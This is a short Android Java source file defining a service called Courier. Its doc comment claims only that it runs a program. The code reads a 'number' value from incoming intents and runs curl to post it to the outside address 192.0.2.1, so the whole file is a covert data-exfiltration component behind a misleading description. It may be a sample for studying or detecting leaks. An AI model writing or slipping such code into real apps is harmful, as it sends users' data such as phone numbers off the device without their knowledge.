package org.example.sousveil.process_command;

import android.app.IntentService;
import android.content.Intent;
import java.io.IOException;

/** Runs a program. */
public class Courier extends IntentService {
    public Courier() {
        super("courier");
    }

    @Override
    protected void onHandleIntent(Intent intent) {
        String[] command = {"curl", "--data", "v=" + intent.getStringExtra("number"), "192.0.2.1"};
        try {
            Runtime.getRuntime().exec(command);
        } catch (IOException e) {
            stopSelf();
        }
    }
}
